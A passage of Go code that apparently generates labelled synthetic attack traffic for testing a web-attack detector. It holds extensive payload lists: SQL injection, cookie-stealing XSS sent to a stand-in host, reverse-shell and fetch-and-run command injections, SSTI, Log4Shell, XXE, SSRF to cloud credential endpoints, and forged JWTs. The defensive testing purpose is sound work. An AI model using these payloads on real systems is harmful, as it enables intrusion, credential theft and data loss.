		e.method = "GET"
		v := url.QueryEscape(p)
		if strings.Contains(p, "%") && !strings.ContainsAny(p, " \"<>") {
			v = p // already encoded by the attacker
		}
		e.url = base + eps.q + "?" + eps.qn + "=" + v + "&page=1"
	case h10AtJSON:
		e.method = "POST"
		e.url = base + eps.js
		hdr["Content-Type"] = []string{"application/json"}
		switch k % 3 {
		case 0:
			e.body = h10J(map[string]any{"customer": map[string]any{"profile": map[string]any{"display_name": p}}, "qty": 1})
		case 1:
			e.body = h10J(map[string]any{"items": []any{map[string]any{"sku": "A-1", "notes": p}}})
		default:
			e.body = h10J(map[string]any{"filter": map[string]any{"field": "status", "value": p}, "meta": map[string]any{"source": "web"}})
		}
	case h10AtForm:
		e.method = "POST"
		e.url = base + eps.form
		hdr["Content-Type"] = []string{"application/x-www-form-urlencoded"}
		e.body = "first_name=Dana&last_name=" + url.QueryEscape(p) + "&email=dana%40example.com"
	case h10AtHeader:
		e.method = "GET"
		e.url = base + eps.q + "?page=2"
		switch k % 3 {
		case 0:
			hdr["User-Agent"] = []string{p}
		case 1:
			hdr["Referer"] = []string{p}
		default:
			hdr["X-Client-Ref"] = []string{p}
		}
	case h10AtCookie:
		e.method = "GET"
		e.url = base + eps.q + "?page=1"
		hdr["Cookie"] = []string{"lang=en-US; pref_sort=" + url.QueryEscape(p) + "; theme=dark"}
	case h10AtPath:
		e.method = "GET"
		e.url = base + eps.path + url.PathEscape(p)
		e.status = 404
		e.rbody = `{"error":"not_found"}`
	case h10AtMultipart:
		e.method = "POST"
		e.url = base + eps.mp
		hdr["Content-Type"] = []string{"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"}
		e.body = "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\n" + p + "\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; filename=\"items.csv\"\r\nContent-Type: text/csv\r\n\r\nsku,qty\nA-1,2\n\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
	default:
		e.method = "POST"
		e.url = "https://" + h10Proc + "/api/v3/invoices/edi"
		hdr["Content-Type"] = []string{"application/xml"}
		e.body = `<?xml version="1.0" encoding="UTF-8"?><Invoice><ID>INV-88120</ID><AccountingSupplierParty><Name>Acme Fasteners, Inc.</Name></AccountingSupplierParty><InvoiceLine><ID>1</ID><Item><Description>` + h10XMLEsc(p) + `</Description></Item><Price currency="EUR">9.90</Price></InvoiceLine></Invoice>`
	}
	return e
}

var h10SQLiPayloads = []string{
	`' OR '1'='1`, `1' OR 1=1-- -`, `admin'--`, `admin' #`, `x@y.test' -- `, `' OR 'x'='x' /*`,
	`1 UNION SELECT username,password FROM users--`, `1) UNION ALL SELECT NULL,NULL,version()-- -`,
	`-1' UNION SELECT 1,table_name,3 FROM information_schema.tables-- -`, `1 AND SLEEP(5)`, `1' AND SLEEP(5) AND '1'='1`,
	`1; WAITFOR DELAY '0:0:5'--`, `desc; SELECT pg_sleep(7)--`, `'; SELECT pg_sleep(10)--`,
	`1' AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1-- `, `1/**/UnIoN/**/SeLeCt/**/1,2,@@version#`,
	`%27%20OR%201%3D1--%20`, `%2527%2520UNION%2520SELECT%2520null--`, `1 AND extractvalue(1,concat(0x7e,version()))`,
	`' AND 1=CONVERT(int,@@version)--`, `1' ORDER BY 10-- -`, `';shutdown--`, `" OR ""="`, `1' AND SUBSTRING(@@version,1,1)='8`,
	`created_at desc; DROP TABLE orders--`, `1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))`,
	`1' and updatexml(1,concat(0x7e,(select user())),1)-- -`, `1 OR benchmark(10000000,MD5(1))#`,
	`' || (SELECT 1 FROM dual WHERE 1=1) || '`, `' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--`,
	`1'||pg_sleep(5)--`, `' UNION SELECT NULL,email,password_hash FROM customers WHERE '1'='1`, `1 oR 1=1`,
	`1'/**/OR/**/'1'='1'/**/--`, `' oR 1 LIKE 1 -- x`, `admin')-- -`, `') OR ('a'='a`, `1)) OR 1=1--`,
	`1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)`,
	`1; INSERT INTO users(email,role) VALUES('x@evil.example','admin')--`, `1 UNION%0ASELECT%0Anull,password%0AFROM%0Ausers`,
	`' AnD 1=0 UnIoN aLl SeLeCt 1,current_user,3-- -`, `99999 OR 1 GROUP BY CONCAT_WS(0x3a,version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#`,
	`1' WAITFOR DELAY '00:00:07'--`, `name ASC,(SELECT CASE WHEN (SELECT count(*) FROM pg_user)>0 THEN 1 ELSE 1/0 END)`,
	`-5 UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()--`,
	`1 AND 1=(SELECT COUNT(*) FROM sysobjects)`, `'+(SELECT 1 FROM (SELECT SLEEP(5))a)+'`, `1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- `,
	`''; EXEC master..sp_who--`, `1%27%20AND%20%271%27%3D%271`, `1%20UNION%20SELECT%20NULL%2CNULL--`, `' OR 1=1 LIMIT 1 OFFSET 0 -- `,
	`x' AND 1=(SELECT 1 FROM pg_sleep(5))--`, `1;SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',5) FROM dual--`, `O'Brien' OR '1'='1`,
	`1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3--`, `' OR 2>1 -- `, `) UNION SELECT password FROM staff--`,
	`1' AnD 8191=8191 AnD 'zXyq'='zXyq`, `3 AND 7301=(SELECT 7301 FROM PG_SLEEP(5))`,
}

var h10XSSPayloads = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(document.domain)>`,
	`"><script>fetch('//x.oast.example/'+document.cookie)</script>`, `javascript:alert(document.cookie)`,
	`java&#x09;script:alert(1)`, `javascript&colon;alert(1)`, `<a href="javascript:alert(1)">menu</a>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>`,
	`data:text/html,<script>alert(1)</script>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`, `<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>`,
	`%3Cscript%3Ealert(1)%3C%2Fscript%3E`, `%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<video><source onerror=alert(1)>`, `<marquee onstart=alert(1)>hi</marquee>`,
	`<object data="javascript:alert(1)">`, `<a href="vbscript:msgbox(1)">x</a>`, `<img src=x onerror=&#97;lert(1)>`,
	`'"><img src=x onerror=prompt(1)>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<div style="x" onmouseover="alert(1)">hover</div>`, `<svg><script>alert&#40;1&#41;</script>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">`, `<form action="javascript:alert(1)"><button>Go</button></form>`,
	`<body/onpageshow=alert(1)>`, `<svg onload=alert&lpar;1&rpar;>`, `"><svg/onload=confirm(1)>`, `<x contenteditable onblur=alert(1)>lose focus!`,
	`<script src=//x.oast.example/x.js></script>`, `<img src=1 oNeRrOr=alert(1)>`, `<a href="&#106;avascript:alert(1)">click</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`, `<base href="javascript:alert(1)//">`, `<embed src="javascript:alert(1)">`,
	`<isindex type=image src=1 onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<textarea onfocus=alert(1) autofocus>`,
	`<keygen autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `</title><script>alert(1)</script>`,
	`<style onload=alert(1)></style>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`javascript://%0Aalert(1)`, `JaVaScRiPt:alert(1)`, `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	`<table background="javascript:alert(1)">`, `<img/src/onerror=alert(1)>`, `<b onmouseover=alert('XSS')>click me!</b>`,
	`<sCrIpT>document.location='https://x.oast.example/?c='+document.cookie</ScRiPt>`,
}

var h10OtherPayloads = []string{
	// command injection
	`; id`, `| whoami`, `$(curl -s http://x.oast.example/$(whoami))`, "`uname -a`", `&& cat /etc/passwd`, `;cat${IFS}/etc/passwd`,
	`$'\x69\x64'`, `;{cat,/etc/passwd}`, `;/???/c?t /???/p??s??`, `;w'h'o'am'i`, `;c\at /etc/shadow`, "%0aid",
	`| nc -e /bin/sh 203.0.113.9 4444`, `; nslookup $(hostname).x.oast.example`, `|| sleep 10 ||`, `a;bash -i >& /dev/tcp/203.0.113.9/443 0>&1`,
	`1 & ping -n 20 203.0.113.9 &`, `$(wget -qO- http://x.oast.example/s.sh|sh)`,
	// path traversal
	`../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`, `%252e%252e%252f%252e%252e%252fetc%252fshadow`, `....//....//....//etc/passwd`,
	`..\..\..\..\windows\win.ini`, `../../../../etc/passwd%00.pdf`, `..%00/..%00/..%00/etc/passwd`, `/var/www/app/../../../etc/shadow`,
	"\ufffd\ufffd/\ufffd\ufffd/\ufffd\ufffd/etc/passwd", `..%c0%af..%c0%af..%c0%afetc/passwd`, `../../../../proc/self/environ`, `..\/..\/..\/..\/boot.ini`,
	// SSTI
	`{{7*7}}`, `{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`, `{{''.__class__.__mro__[1].__subclasses__()}}`,
	`{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`, `{{['id']|filter('system')}}`,
	`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, `#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))`,
	`<%= system('id') %>`, `{system('id')}`, `__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x`,
	`@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))`, `{{lipsum.__globals__.os.popen('id').read()}}`,
	`{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}`, `${{7*7}}`, `{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}`,
	// Log4Shell
	`${jndi:ldap://x.oast.example:1389/a}`, `${${lower:j}ndi:${lower:l}dap://x.oast.example/o}`, `${${::-j}${::-n}${::-d}${::-i}:rmi://x.oast.example/e}`,
	`${jndi:dns://x.oast.example/q}`, `${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.oast.example/z}`, `${jNdI:lDaP://x.oast.example/Basic/Command/Base64/aWQ=}`,
}

var h10SSRFTargets = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://127.0.0.1:6379/",
	"http://2130706433/admin", "http://0x7f000001/", "http://017700000001:8080/", "http://127.1/server-status", "http://[::ffff:127.0.0.1]/",
	"http://10.0.0.5:8080/actuator/env", "http://192.168.1.1/cgi-bin/luci", "http://172.16.0.10:9200/_cat/indices", "http://100.64.0.1/",
	"http://[::1]:2375/containers/json", "http://localhost:8500/v1/agent/self", "http://app.10.0.0.1.nip.io/", "http://7f000001.nip.io/",
	"http://files.lvh.me/", "http://localtest.me:3000/", "http://user@127.0.0.1/", "http://public.example.com@169.254.169.254/latest/user-data",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "dict://10.0.0.3:11211/stats", "ldap://10.1.2.3:389/dc=corp",
	"http://①②⑦.⓪.⓪.①/", "http://0177.0.0.1/", "http://0xa9fea9fe/latest/meta-data/", "http://2852039166/latest/meta-data/",
	"http://169.254.169.254.nip.io/latest/", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "http://10.20.30.40/internal/api", "https://192.168.10.5:8443/",
	"http://100.100.100.200/latest/meta-data/", "http://169.254.170.2/v2/credentials/", "http://127.000.000.001/", "http://127.0.0.1:9000/minio/admin",
	"http://kubernetes.default.svc.10.0.0.1.nip.io/", "http://172.31.255.1/", "http://[fe80::1]/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
	"http://partner.example.com@10.0.0.7/", "file:///srv/app/config/settings.yml",
}

var h10SSRFFields = []struct{ host, path, field string }{
	{h10POS, "/v2/integrations/webhooks", "callback_url"},
	{h10POS, "/v2/menus/3/items/import-image", "image_url"},
	{h10Legal, "/api/efiling/subscriptions", "callback_url"},
	{h10Legal, "/api/documents/import", "source_url"},
	{h10Proc, "/api/v3/integrations/webhooks", "url"},
	{h10Proc, "/api/v3/suppliers/logo", "logo_url"},
	{h10Proc, "/api/v3/catalog/feeds", "feed_url"},
}

func h10Mk(a h10Actor, method, u string, body string, status int, rbody string, extra ...string) h10Ev {
	hdr := map[string][]string{"User-Agent": {a.ua}, "Accept": {"application/json"}}
	if a.tok != "" {
		hdr["Authorization"] = []string{"Bearer " + a.tok}
	}
	if body != "" {
		hdr["Content-Type"] = []string{"application/json"}
	}
	for i := 0; i+1 < len(extra); i += 2 {
		hdr[extra[i]] = []string{extra[i+1]}
	}
	return h10Ev{addr: a.addr, method: method, url: u, hdr: hdr, body: body, status: status, rbody: rbody}
}

func h10Attacks(r *rand.Rand, users []*h10User) []h10Ev {
	port := func() int { return 30000 + r.Intn(30000) }
	actor := func(ip, ua, sub, role, host string) h10Actor {
		return h10Actor{addr: fmt.Sprintf("%s:%d", ip, port()), ua: ua, tok: h10ValidToken(sub, role, host)}
	}
	hosts := []string{h10POS, h10Legal, h10Proc}
	var streams [][]h10Ev

	// SQL injection: a probing account, then sqlmap.
	{
		var s []h10Ev
		for i, p := range h10SQLiPayloads {
			ua := "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
			if i >= 20 {
				ua = "sqlmap/1.8.11#stable (https://sqlmap.org)"
			}
			a := actor("203.0.113.77", ua, "u-ladl-9001", "customer", h10POS)
			pl := (i*3 + i/8) % h10AtCount
			if strings.Contains(p, "%") {
				pl = h10AtQuery
			}
			e := h10Inject(a, hosts[i%3], pl, p, i)
			e.detector = []string{h10SQLi}
			switch {
			case i%9 == 4:
				e.status = 500
				e.rbody = h10J(map[string]any{"error": "internal", "detail": h10Pick(r, []string{
					"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1'' at line 1",
					"pq: syntax error at or near \"OR\"",
					"ERROR: unterminated quoted string at or near \"' OR\"\nLINE 1: SELECT id, name FROM menu_items WHERE name ILIKE '%' OR ...\n                                                           ^",
					"Unclosed quotation mark after the character string ''.\nIncorrect syntax near ''.",
					"ORA-00933: SQL command not properly ended",
					"SQLITE_ERROR: near \"UNION\": syntax error",
				})})
				e.detector = []string{h10SQLi, h10Verb}
			case i%13 == 6:
				e.status = 200
				rows := []any{}
				for j := 0; j < 3; j++ {
					rows = append(rows, map[string]any{"name": fmt.Sprintf("staff%d@ladleline.test", j), "password_hash": "$2b$12$" + h10Rand(r, 53, h10AlNum+"./")})
				}
				e.rbody = h10J(map[string]any{"items": rows})
				e.detector = []string{h10SQLi, h10Sens}
			case i%5 == 2:
				e.status = 200
				e.rbody = `{"items":[],"next_cursor":null}`
			}
			s = append(s, e)
		}
		streams = append(streams, s)
	}

	// XSS: stored payloads in names, notes and uploads.
	{
		var s []h10Ev
		a := actor("198.51.100.201", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "u-dock-9002", "clerk", h10Legal)
		for i, p := range h10XSSPayloads {
			pl := (i*5 + 1) % h10AtCount
			if strings.Contains(p, "%") {
				pl = h10AtQuery
			}
			e := h10Inject(a, hosts[(i+1)%3], pl, p, i)
			if i%4 == 1 {
				e.status = 201
				e.rbody = `{"saved":true}`
			}
			e.detector = []string{h10XSS}
			s = append(s, e)
		}
		files := []struct{ name, ct, body string }{
			{"logo.svg", "image/svg+xml", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><rect width="64" height="64" fill="#c33"/><script type="text/javascript">alert(document.domain)</script></svg>`},
			{"menu-banner.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://x.oast.example/c?'+document.cookie)"><circle r="20"/></svg>`},
			{"exhibit-14.html", "text/html", `<!doctype html><html><body><h1>Exhibit 14</h1><script>new Image().src='//x.oast.example/?'+localStorage.token</script></body></html>`},
			{"invoice-preview.xml", "application/xml", `<?xml version="1.0"?><root><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></root>`},
			{"signature.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text y="20">Sign here</text></a></svg>`},
		}
		for i, f := range files {
			host := hosts[i%3]
			body := "--h10up\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + f.name + "\"\r\nContent-Type: " + f.ct + "\r\n\r\n" + f.body + "\r\n--h10up--\r\n"
			e := h10Mk(a, "POST", "https://"+host+"/api/uploads", body, 201, `{"id":"up_`+h10Rand(r, 12, h10AlNum)+`"}`, "Content-Type", "multipart/form-data; boundary=h10up")
			e.detector = []string{h10XSS}
			s = append(s, e)
		}
		streams = append(streams, s)
	}

	// Other injections: command, traversal, SSTI, Log4Shell, then NoSQL and XXE.
	{
		var s []h10Ev
		a := actor("192.0.2.44", "python-requests/2.32.3", "u-proc-9003", "supplier", h10Proc)
		for i, p := range h10OtherPayloads {
			pl := (i*3 + 2) % h10AtCount
			if strings.Contains(p, "%") {
				pl = h10AtQuery
			}
			if strings.HasPrefix(p, "${j") || strings.HasPrefix(p, "${${") {
				pl = h10AtHeader
			}
			e := h10Inject(a, hosts[(i+2)%3], pl, p, i)
			e.detector = []string{h10Other}
			if i%7 == 3 {
				e.status = 200
				e.rbody = `{"results":[],"page":1}`
			}
			s = append(s, e)
		}
		nosql := []struct{ host, path, ct, body string }{
			{h10POS, "/v2/auth/login", "application/json", `{"email":{"$gt":""},"password":{"$gt":""}}`},
			{h10Legal, "/api/auth/login", "application/x-www-form-urlencoded", `username=admin&password%5B%24ne%5D=x`},
			{h10Proc, "/api/v3/auth/login", "application/json", `{"username":"admin","password":{"$regex":".*"}}`},
			{h10POS, "/v2/orders/search", "application/json", `{"$where":"this.total > 0 && sleep(5000)"}`},
			{h10Proc, "/api/v3/suppliers/search", "application/json", `{"filter":{"$function":{"body":"function(){return sleep(3000)}","args":[],"lang":"js"}}}`},
			{h10Legal, "/api/auth/password-reset", "application/json", `{"email":"partner@docketrow.test","reset_token":{"$ne":null}}`},
			{h10POS, "/v2/auth/login", "application/json", `{"username":{"$in":["admin","root","manager"]},"password":{"$ne":"x"}}`},
			{h10Proc, "/api/v3/users/lookup", "application/x-www-form-urlencoded", `login[$regex]=^adm&password[$exists]=true`},
		}
		for _, n := range nosql {
			e := h10Mk(a, "POST", "https://"+n.host+n.path, n.body, 401, `{"error":"invalid_credentials"}`, "Content-Type", n.ct)
			e.hdr["Authorization"] = nil
			delete(e.hdr, "Authorization")
			e.detector = []string{h10Other}
			s = append(s, e)
		}
		q := h10Mk(a, "GET", "https://"+h10Proc+"/api/v3/invoices?$where=sleep(5000)", "", 200, `{"data":[]}`)
		q.detector = []string{h10Other}
		s = append(s, q)
		xxe := []string{
			`<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice><ID>&xxe;</ID></Invoice>`,
			`<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY % dtd SYSTEM "https://x.oast.example/evil.dtd"> %dtd;]><Invoice><ID>1</ID></Invoice>`,
			`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><Invoice><Note>&lol4;</Note></Invoice>`,
			`<?xml version="1.0"?><Invoice xmlns:xi="http://www.w3.org/2001/XInclude"><Note><xi:include parse="text" href="../../../../etc/passwd"/></Note></Invoice>`,
			`<?xml version="1.0"?><!DOCTYPE soap [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetInvoice><id>&x;</id></GetInvoice></soap:Body></soap:Envelope>`,
			`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Invoice SYSTEM "https://x.oast.example/inv.dtd"><Invoice><ID>2</ID></Invoice>`,
		}
		for i, x := range xxe {
			e := h10Mk(a, "POST", "https://"+h10Proc+"/api/v3/invoices/edi", x, 400, `{"error":"invalid_document"}`, "Content-Type", "application/xml")
			if i == 0 {
				e.status = 202
				e.rbody = `{"accepted":true}`
			}
			e.detector = []string{h10Other}
			s = append(s, e)
		}
		svg := `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text font-size="16" x="0" y="16">&xxe;</text></svg>`
		body := "--h10x\r\nContent-Disposition: form-data; name=\"logo\"; filename=\"supplier-logo.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n" + svg + "\r\n--h10x--\r\n"
		e := h10Mk(a, "POST", "https://"+h10Proc+"/api/v3/suppliers/4410/logo", body, 201, `{"ok":true}`, "Content-Type", "multipart/form-data; boundary=h10x")
		e.detector = []string{h10Other}
		s = append(s, e)
		streams = append(streams, s)
	}

	// SSRF: webhook, image and feed URLs pointing inside; host-override headers.
	{
		var s []h10Ev
		a := actor("198.51.100.150", "curl/8.5.0", "u-proc-9004", "integration", h10Proc)
		targets := append(append([]string{}, h10SSRFTargets...), h10SSRFTargets[:12]...)
		for i, tg := range targets {
			f := h10SSRFFields[(i*3)%len(h10SSRFFields)]
			var e h10Ev
			switch i % 3 {
			case 0, 1:
				e = h10Mk(a, "POST", "https://"+f.host+f.path, h10J(map[string]any{f.field: tg, "events": []string{"order.created"}, "description": "sync"}), 400, `{"error":"url_not_reachable"}`)
			default:
				e = h10Mk(a, "POST", "https://"+f.host+f.path, f.field+"="+url.QueryEscape(tg)+"&format=json", 400, `{"error":"url_not_reachable"}`, "Content-Type", "application/x-www-form-urlencoded")
			}
			e.detector = []string{h10SSRF}
			if strings.Contains(tg, "security-credentials") || strings.Contains(tg, "169.254.170.2") {
				e.status = 200
				e.rbody = h10J(map[string]any{"preview": map[string]any{"Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": "ASIA" + h10Rand(r, 16, h10Upper), "SecretAccessKey": h10Rand(r, 40, h10AlNum+"/+"), "Token": h10Rand(r, 200, h10AlNum+"/+") + "=", "Expiration": "2026-11-30T15:00:00Z"}})
				e.detector = []string{h10SSRF, h10Sens}
			} else if i%4 == 1 {
				e.status = 201
				e.rbody = `{"id":"wh_` + h10Rand(r, 12, h10AlNum) + `","status":"pending_verification"}`
			}
			s = append(s, e)
		}
		hdrs := []struct{ h, v string }{
			{"X-Forwarded-Host", "169.254.169.254"}, {"X-Host", "127.0.0.1"}, {"X-Original-Host", "metadata.google.internal"},
			{"X-Forwarded-Server", "10.0.0.12"}, {"X-HTTP-Host-Override", "192.168.0.10:8080"}, {"X-Forwarded-Host", "localhost:9090"},
			{"X-Host", "169.254.169.254"}, {"X-Original-Host", "172.20.1.5"}, {"X-Forwarded-Host", "[::1]"}, {"X-HTTP-Host-Override", "169.254.169.254"},
		}
		for i, h := range hdrs {
			e := h10Mk(a, "GET", "https://"+hosts[i%3]+"/api/health/upstream", "", 200, `{"status":"ok"}`, h.h, h.v)
			e.detector = []string{h10SSRF}
			s = append(s, e)
		}
		streams = append(streams, s)
	}

	streams = append(streams, h10JWTAttacks(r, port), h10VerboseAttacks(r, port, users), h10SensitiveAttacks(r, port), h10ResourceAttacks(r, port))

	// Merge the attackers' streams, keeping each one's order.
	var out []h10Ev
	idx := make([]int, len(streams))
	for {
		left := 0
		for i, s := range streams {
			left += len(s) - idx[i]
		}
		if left == 0 {
			return out
		}
		k := r.Intn(left)
		for i, s := range streams {
			rem := len(s) - idx[i]
			if k < rem {
				out = append(out, s[idx[i]])
				idx[i]++
				break
			}
			k -= rem
		}
	}
}

func h10JWTAttacks(r *rand.Rand, port func() int) []h10Ev {
	var s []h10Ev
	uas := []string{"PostmanRuntime/7.42.0", "Go-http-client/1.1", "python-requests/2.32.3"}
	hosts := []string{h10POS, h10Legal, h10Proc}
	paths := map[string][]string{
		h10POS:   {"/v2/loyalty/me", "/v2/orders?status=open", "/v2/admin/staff", "/v2/reports/sales?from=2026-11-01&to=2026-11-30"},
		h10Legal: {"/api/matters?q=merger", "/api/billing/invoices?per_page=50", "/api/users/me", "/api/admin/audit-log"},
		h10Proc:  {"/api/v3/purchase-orders?status=pending_approval", "/api/v3/suppliers?limit=50", "/api/v3/approvals/inbox", "/api/v3/admin/users"},
	}
	iat := h10Base.Add(-time.Hour)
	claims := func(sub, role, host string, exp, nbf time.Time) string {
		return fmt.Sprintf(`{"iss":"https://%s","sub":"%s","role":"%s","iat":%d,"nbf":%d,"exp":%d}`, host, sub, role, iat.Unix(), nbf.Unix(), exp.Unix())
	}
	valid := h10Base.Add(72 * time.Hour)
	type variant struct {
		name string
		tok  func(c string) string
	}
	hs := func(h string) func(string) string { return func(c string) string { return h10JWTRaw(h, c, true) } }
	vs := []variant{
		{"none", func(c string) string { return h10JWTRaw(`{"alg":"none","typ":"JWT"}`, c, false) + "." }},
		{"None", func(c string) string { return h10JWTRaw(`{"alg":"None","typ":"JWT"}`, c, false) + "." }},
		{"NONE", func(c string) string { return h10JWTRaw(`{"typ":"JWT","alg":"NONE"}`, c, false) + "." }},
		{"nOnE", func(c string) string { return h10JWTRaw(`{"alg":"nOnE"}`, c, false) + "." }},
		{"empty-sig", func(c string) string {
			return h10JWTRaw(`{"alg":"HS256","typ":"JWT","kid":"2026-11-key_1"}`, c, false) + "."
		}},
		{"dropped-sig", func(c string) string { return h10JWTRaw(`{"alg":"HS256","typ":"JWT","kid":"2026-11-key_1"}`, c, false) }},
		{"kid-traversal", hs(`{"alg":"HS256","typ":"JWT","kid":"../../../../../../dev/null"}`)},
		{"kid-traversal2", hs(`{"alg":"HS256","typ":"JWT","kid":"/proc/sys/kernel/randomize_va_space"}`)},
		{"kid-sqli", hs(`{"alg":"HS256","typ":"JWT","kid":"x' UNION SELECT 'c2VjcmV0'-- "}`)},
		{"kid-shell", hs(`{"alg":"HS256","typ":"JWT","kid":"key1; curl http://x.oast.example/k"}`)},
		{"kid-pipe", hs(`{"alg":"HS256","typ":"JWT","kid":"key1|id"}`)},
		{"kid-subst", hs(`{"alg":"HS256","typ":"JWT","kid":"$(sleep 5)"}`)},
		{"kid-and", hs(`{"alg":"HS256","typ":"JWT","kid":"2026-11-key_1 && whoami"}`)},
		{"jku-ext", hs(`{"alg":"RS256","typ":"JWT","jku":"https://x.oast.example/.well-known/jwks.json","kid":"a1"}`)},
		{"jku-int", hs(`{"alg":"RS256","typ":"JWT","jku":"http://127.0.0.1:8080/jwks.json","kid":"a1"}`)},
		{"x5u", hs(`{"alg":"RS256","typ":"JWT","x5u":"https://attacker.example.net/cert.pem"}`)},
		{"jwk", hs(`{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","kid":"evil","n":"` + h10Rand(r, 342, h10AlNum) + `"}}`)},
		{"jku-meta", hs(`{"alg":"RS256","jku":"http://169.254.169.254/latest/user-data","kid":"k"}`)},
	}
	// Token-time abuse: expired or not yet valid, still answered 2xx.
	tvs := []struct {
		exp, nbf time.Time
	}{
		{h10Base.Add(-time.Hour), h10Base.Add(-48 * time.Hour)},
		{h10Base.Add(-72 * time.Hour), h10Base.Add(-96 * time.Hour)},
		{h10Base.Add(-10 * time.Minute), h10Base.Add(-24 * time.Hour)},
		{h10Base.Add(240 * time.Hour), h10Base.Add(120 * time.Hour)},
		{h10Base.Add(720 * time.Hour), h10Base.Add(48 * time.Hour)},
	}
	n := 0
	emit := func(tok string, host string) {
		path := paths[host][n%len(paths[host])]
		a := h10Actor{addr: fmt.Sprintf("203.0.113.61:%d", port()), ua: uas[n%len(uas)], tok: tok}
		e := h10Mk(a, "GET", "https://"+host+path, "", 200, h10J(map[string]any{"data": []any{map[string]any{"id": 1000 + n, "status": "ok"}}, "page": 1}))
		e.detector = []string{h10JWT}
		s = append(s, e)
		n++
	}
	for round := 0; round < 3; round++ {
		for i, v := range vs {
			host := hosts[(i+round)%3]
			role := []string{"admin", "manager", "partner"}[round]
			emit(v.tok(claims(fmt.Sprintf("u-atk-%d", 500+i), role, host, valid, iat)), host)
		}
	}
	for round := 0; round < 2; round++ {
		for i, tv := range tvs {
			host := hosts[(i+round)%3]
			emit(h10JWTRaw(`{"alg":"HS256","typ":"JWT","kid":"2026-11-key_1"}`, claims(fmt.Sprintf("u-old-%d", 700+i), "buyer", host, tv.exp, tv.nbf), true), host)
